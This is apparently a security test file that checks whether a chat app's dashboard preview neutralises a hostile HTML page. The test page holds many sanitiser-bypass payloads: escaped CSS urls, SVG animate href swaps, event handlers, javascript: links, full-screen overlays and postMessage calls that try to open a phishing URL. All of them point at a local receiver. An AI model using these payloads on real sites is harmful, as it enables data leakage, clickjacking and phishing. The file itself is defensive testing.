import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect } from 'chai';
import type { Browser, BrowserContext, Frame, Page } from 'playwright-core';
import { launchChromium, openPage } from '../../support/browser.js';
import { AdminAccounts } from '../../../application/accounts/admin-accounts.js';
import { startServer, type RunningServer } from '../../../shells/koa/server.js';
import { createMigratedTestDatabase, type TestDatabase } from '../../support/database.js';
import { installMcpAppHarness, type McpAppHarness } from '../../support/mcp-app-host.js';
import { freePort } from '../../support/server.js';
import { testSettings } from '../../support/settings.js';
import { mintAccessToken } from '../../support/tokens.js';

/**
 * Issue 30, item 8: the in-chat preview must contain a hostile page by itself, with no CSP from the host.
 * Every payload points at a local receiver that counts what reaches it; Chromium's own request log is the
 * second witness. The view's "Open dashboard" button must stay on top and be the only thing that opens a link.
 */

const PHISHING_URL = 'https://phish.example.test/login';

/** A page that tries every way known to us to fetch, run script, escape the preview's box or open a link. */
function hostilePage(r: string): string {
  return `<!doctype html><html><head><title>Hostile</title>
<style>
@import url("${r}/import");
@font-face{font-family:hostile;src:url("${r}/font-face")}
.font{font-family:hostile}
.bg{background:url("${r}/background")}
.escape{background:\\75 rl(${r}/css-escape)}
.escape2{background-image:\\000075\\000072\\00006c("${r}/css-escape-long")}
.imageset{background-image:image-set("${r}/image-set" 1x)}
.webkitset{background-image:-webkit-image-set(url("${r}/webkit-image-set") 1x)}
.list{list-style-image:url("${r}/list-style-image")}
.borderimg{border:5px solid;border-image:url("${r}/border-image") 30 round}
.cursor{cursor:url("${r}/cursor"),auto}
.content::before{content:url("${r}/content")}
.mask{-webkit-mask-image:url("${r}/webkit-mask");mask-image:url("${r}/mask")}
.filter{filter:url("${r}/filter.svg#f")}
.shape{float:left;shape-outside:url("${r}/shape-outside")}
.var{--bgv:url("${r}/var");background-image:var(--bgv)}
.varesc{--e:\\75 rl(${r}/var-escape);background:var(--e)}
.varfill{--f:url("${r}/var-fill.svg#p")}
.varfill rect{fill:var(--f)}
@media all{.media{background:url("${r}/media")}}
@supports (display:block){.supports{background:url("${r}/supports")}}
@layer l{.layer{background:url("${r}/layer")}}
@container (min-width:0px){.container{background:url("${r}/container")}}
@scope (.scope){div{background:url("${r}/scope")}}
.nest{& .inner{background:url("${r}/nested")}}
:host{position:fixed;inset:0;z-index:2147483647;background:rgb(255,0,0)}
:\\68 ost{position:fixed;inset:0;z-index:2147483647;background:rgb(255,0,0)}
.cover{position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:rgb(0,128,0)}
</style>
<link rel="stylesheet" href="${r}/link-stylesheet"><link rel="prefetch" href="${r}/link-prefetch">
<link rel="icon" href="${r}/link-icon"><meta http-equiv="refresh" content="0;url=${r}/meta-refresh">
<base href="${r}/base/"></head>
<body background="${r}/body-background">
<h1 id="hostile-title">Hostile page</h1>
<img src="${r}/img" alt="img" onerror="parent.postMessage({jsonrpc:'2.0',id:990,method:'ui/open-link',params:{url:'${PHISHING_URL}'}},'*')">
<img srcset="${r}/srcset 1x" alt="srcset"><img src="relative.png" alt="relative">
<picture><source srcset="${r}/picture-source"><img alt="picture"></picture>
<video poster="${r}/video-poster" src="${r}/video"></video><audio src="${r}/audio" autoplay></audio>
<input type="image" src="${r}/input-image" alt="input">
<iframe src="${r}/iframe"></iframe><iframe srcdoc="<img src='${r}/srcdoc'>"></iframe>
<object data="${r}/object"></object><embed src="${r}/embed">
<script>fetch('${r}/script');parent.postMessage({jsonrpc:'2.0',id:991,method:'ui/open-link',params:{url:'${PHISHING_URL}'}},'*')</script>
<svg onload="fetch('${r}/svg-onload')" width="10" height="10"><script>fetch('${r}/svg-script')</script></svg>
<svg width="10" height="10"><image href="data:," width="10" height="10"><set attributeName="href" to="${r}/svg-set-image"/></image></svg>
<svg width="10" height="10"><image width="10" height="10"><animate attributeName="href" values="${r}/svg-animate-image" dur="1s" repeatCount="indefinite"/></image></svg>
<svg width="10" height="10"><filter id="fset"><feImage href="data:,"><set attributeName="href" to="${r}/svg-set-feimage"/></feImage></filter><rect filter="url(#fset)" width="10" height="10"/></svg>
<svg width="10" height="10"><filter id="fanim"><feImage><animate attributeName="href" values="${r}/svg-animate-feimage" dur="1s"/></feImage></filter><rect filter="url(#fanim)" width="10" height="10"/></svg>
<svg width="10" height="10"><filter id="fimg"><feImage href="${r}/feimage"/></filter><rect filter="url(#fimg)" width="10" height="10"/></svg>
<svg width="10" height="10"><image href="${r}/svg-image" width="10" height="10"/><image xlink:href="${r}/svg-xlink-image" width="10" height="10"/></svg>
<svg width="10" height="10"><use href="${r}/use.svg#x"/><rect fill="url(${r}/fill.svg#p)" width="10" height="10"/></svg>
<svg width="10" height="10"><rect filter="\\75 rl(${r}/filter-attribute-escape.svg#f)" width="10" height="10"/></svg>
<svg width="10" height="10"><foreignObject width="10" height="10"><img src="${r}/foreign-object"></foreignObject></svg>
<div style="background:url(${r}/inline-style)">inline</div>
<div style="background:\\75 rl(${r}/inline-escape)">inline escape</div>
<div style="background-image:image-set('${r}/inline-image-set' 1x)">inline image-set</div>
<table background="${r}/table-background"><tr><td background="${r}/td-background">cell</td></tr></table>
<form action="${r}/form"><input name="q" value="secret"><button id="submit">Send</button></form>
<button formaction="${r}/formaction" id="formaction">formaction</button>
<details open ontoggle="fetch('${r}/ontoggle')"><summary>details</summary>text</details>
<button popovertarget="pop" id="popbtn">More</button>
<div popover id="pop" style="width:100vw;height:100vh;margin:0;background:rgb(0,0,255)">popover</div>
<p><a id="fake" href="${PHISHING_URL}" target="_blank">Open dashboard</a>
<a id="js" href="javascript:fetch('${r}/javascript-url')">js</a>
<a id="ping" href="https://phish.example.test/ping" ping="${r}/ping">ping</a>
<svg width="60" height="20"><a id="svg-link" href="${PHISHING_URL}"><text x="0" y="15">svg link</text></a></svg>
<svg width="60" height="20"><a id="svg-set-link" href="#top"><set attributeName="href" to="${PHISHING_URL}"/><text x="0" y="15">set link</text></a></svg></p>
<div class="bg escape escape2 imageset webkitset borderimg cursor content mask filter shape var varesc media supports layer container font">styled</div>
<ul class="list"><li>list item</li></ul>
<div class="scope"><div>scoped</div></div>
<div class="nest"><div class="inner">nested</div></div>
<div class="varfill"><svg width="10" height="10"><rect width="10" height="10"/></svg></div>
<div class="cover">cover</div>
</body></html>`;
}

/** Counts every request that reaches it, by path. */
async function startReceiver(): Promise<{ origin: string; hits: string[]; close(): Promise<void> }> {
  const hits: string[] = [];
  const server = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(404, { 'access-control-allow-origin': '*' }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, hits, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

describe('security: the in-chat preview contains a hostile page with no host CSP (issue 30, item 8)', function () {
  this.timeout(120_000);
  let database: TestDatabase;
  let server: RunningServer;
  let browser: Browser;
  let receiver: Awaited<ReturnType<typeof startReceiver>>;
  let port: number;
  let token: string;
  let apiOrigin: string;
  let context: BrowserContext;
  let page: Page;
  let harness: McpAppHarness;
  const navigations: string[] = [];

  before(async () => {
    database = await createMigratedTestDatabase();
    receiver = await startReceiver();
    port = await freePort();
    apiOrigin = `http://localhost:${port}`;
    server = await startServer(
      testSettings({ port, baseUrl: apiOrigin, appUrl: `http://app.localhost:${port}`, dashboardDomain: `dash.localhost:${port}`, databaseUrl: database.url }),
    );
    const mallory = await server.app.container.get(AdminAccounts).addUser({ handle: 'mallory', email: 'mallory@example.com' });
    token = (await mintAccessToken(server.app.container, { userId: mallory.id })).access_token;
    // The harness's pages are served by Playwright, so Chromium cannot tell their address space and its Local
    // Network Access checks would stop every request to the loopback receiver; a real attacker's host is public.
    browser = await launchChromium(['--disable-features=LocalNetworkAccessChecks']);
  });

  after(async () => {
    await browser?.close();
    await server?.close();
    await receiver?.close();
    await database?.drop();
  });

  beforeEach(async () => {
    ({ context, page } = await openPage(browser, { viewport: { width: 900, height: 900 } }));
    navigations.length = 0;
    receiver.hits.length = 0;
    page.on('framenavigated', (frame) => navigations.push(frame.url()));
    harness = await installMcpAppHarness(page, apiOrigin, `http://sandbox.localhost:${port}`, { csp: false });
  });

  afterEach(async () => {
    await context?.close();
  });

  /** After two frames and a moment for SMIL timelines, one request on purpose proves the page can reach the receiver. */
  async function settleAndProbe(view: Frame): Promise<void> {
    await view.evaluate(() => new Promise((resolve) => (globalThis as any).requestAnimationFrame(() => (globalThis as any).requestAnimationFrame(resolve))));
    await page.waitForTimeout(1_200);
    await view.evaluate((url) => {
      const img = new (globalThis as any).Image();
      img.src = url;
    }, `${receiver.origin}/probe`);
    for (let i = 0; i < 200 && !receiver.hits.includes('/probe'); i++) await page.waitForTimeout(25);
  }

  /** The receiver saw only the probe, and Chromium made no request the host did not make. */
  function expectNothingLeft(): void {
    expect(receiver.hits).to.deep.equal(['/probe']);
    for (const url of harness.requests) {
      const expected = url.startsWith(`${apiOrigin}/__harness/`) || url === `${apiOrigin}/mcp` || url === harness.sandboxUrl || url === `${receiver.origin}/probe`;
      expect(expected, url).to.equal(true);
    }
    expect(harness.popups).to.deep.equal([]);
    for (const url of navigations) expect([harness.hostUrl, harness.sandboxUrl, 'about:srcdoc', 'about:blank'], url).to.include(url);
  }

  /** Publishes the hostile page and shows it through get_dashboard in the view, as a host would. */
  async function showHostile(): Promise<{ view: Frame; dashboardUrl: string }> {
    const published = await harness.runTool(token, 'publish_dashboard', { path: 'hostile', body: hostilePage(receiver.origin), name: 'Hostile' });
    expect(published.result.isError).to.equal(undefined);
    const shown = await harness.runTool(token, 'get_dashboard', { slug: 'hostile' });
    expect(shown.result.isError).to.equal(undefined);
    const view = await harness.viewFrame();
    await view.waitForFunction(() => ((globalThis as any).document.getElementById('status')?.textContent ?? '').includes('Preview of the published page'));
    expect(await view.locator('#preview #hostile-title').textContent()).to.equal('Hostile page');
    expect(harness.violations).to.deep.equal([]);
    return { view, dashboardUrl: `http://mallory.dash.localhost:${port}/hostile` };
  }

  /** Everything a reader might click in the preview. */
  async function clickEverything(view: Frame): Promise<void> {
    for (const selector of ['#fake', '#js', '#ping', '#svg-link', '#svg-set-link', '#submit', '#formaction', '#popbtn']) {
      await view.locator(`#preview ${selector}`).click({ force: true });
    }
    await view.locator('#preview #fake').click({ button: 'middle', force: true });
  }

  it('lets no request leave the page: SVG set/animate, feImage, image-set, CSS escapes and the usual set', async () => {
    const { view } = await showHostile();
    await clickEverything(view);
    await settleAndProbe(view);
    expectNothingLeft();
    // What is left in the preview: no element that runs, fetches or animates, no handler, no outgoing URL.
    const left = await view.evaluate(() => {
      const shadow = (globalThis as any).document.getElementById('page-box').shadowRoot;
      const all: any[] = Array.from(shadow.querySelectorAll('*'));
      return {
        tags: [...new Set(all.map((n) => n.localName.toLowerCase()))],
        attributes: all.flatMap((n) => Array.from(n.attributes as ArrayLike<{ name: string; value: string }>).map((a) => [a.name.toLowerCase(), a.value] as const)),
      };
    });
    for (const tag of ['script', 'iframe', 'object', 'embed', 'image', 'feimage', 'set', 'animate', 'foreignobject', 'form', 'video', 'audio', 'link', 'meta', 'base', 'style']) {
      expect(left.tags, tag).to.not.include(tag);
    }
    for (const [name, value] of left.attributes) {
      expect(name, name).to.not.match(/^on|^(srcset|srcdoc|action|formaction|ping|poster|background|popover|popovertarget|data)$/);
      if (name === 'href' || name === 'xlink:href') expect(value, name).to.match(/^#/);
      if (name === 'src') expect(value, name).to.match(/^data:image\//);
      expect(value, name).to.not.include(receiver.origin);
    }
  });

  it('keeps the view\'s button visible and on top: the holder is a strict containment box, :host rules are gone', async () => {
    const { view } = await showHostile();
    await clickEverything(view);
    const hit = await view.evaluate(() => {
      const d = (globalThis as any).document;
      const box = d.getElementById('open').getBoundingClientRect();
      const top = d.elementFromPoint(box.left + box.width / 2, box.top + box.height / 2);
      return { id: top?.id ?? null, visible: box.width > 0 && box.height > 0 };
    });
    expect(hit).to.deep.equal({ id: 'open', visible: true });
    expect(await view.locator('#page-box').evaluate((n) => (globalThis as any).getComputedStyle(n).contain)).to.equal('strict');
  });

  it('opens only the dashboard, from the view\'s own button; a fake link in the preview sends nothing', async () => {
    const { view, dashboardUrl } = await showHostile();
    await clickEverything(view);
    // Clicks delivered to the links themselves too, whatever may lie on top of them.
    for (const selector of ['#fake', '#svg-link', '#svg-set-link', '#ping']) await view.locator(`#preview ${selector}`).dispatchEvent('click');
    // A real mouse click at the button's centre, as the reader would; any ui/open-link from the preview came first.
    const box = (await view.locator('#open').boundingBox())!;
    await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2);
    await page.waitForFunction(() => (globalThis as any).harness.openedLinks.length >= 1);
    expect((await harness.recorded()).openedLinks).to.deep.equal([dashboardUrl]);
    expect(page.url()).to.equal(harness.hostUrl);
  });

  it('parses CSS with the browser: escaped, nested and at-rule urls, :host and fetching properties all go', async () => {
    await harness.runTool(token, 'publish_dashboard', { path: 'plain', body: '<p id="plain">plain</p>', name: 'Plain' });
    await harness.runTool(token, 'get_dashboard', { slug: 'plain' });
    const view = await harness.viewFrame();
    await view.waitForFunction(() => ((globalThis as any).document.getElementById('status')?.textContent ?? '').includes('Preview of the published page'));
    const style = /<style>([\s\S]*)<\/style>/.exec(hostilePage(receiver.origin))![1]!;
    const kept = await view.evaluate((text) => {
      const sheet = (globalThis as any).DASHPUB_SANITISER.cleanSheet(text);
      return Array.from(sheet.cssRules as ArrayLike<{ cssText: string }>).map((rule) => rule.cssText);
    }, style + '\n.ok{color:rgb(1,2,3);fill:url(#local)}');
    const text = kept.join('\n');
    expect(text).to.not.include(receiver.origin);
    expect(text).to.not.match(/@|:host|position:\s*fixed.*inset|image-set|\\75/i);
    // What is inert stays: the plain rule, and its local reference.
    expect(kept).to.include('.ok { color: rgb(1, 2, 3); fill: url("#local"); }');
    expect(receiver.hits).to.deep.equal([]);
  });
});
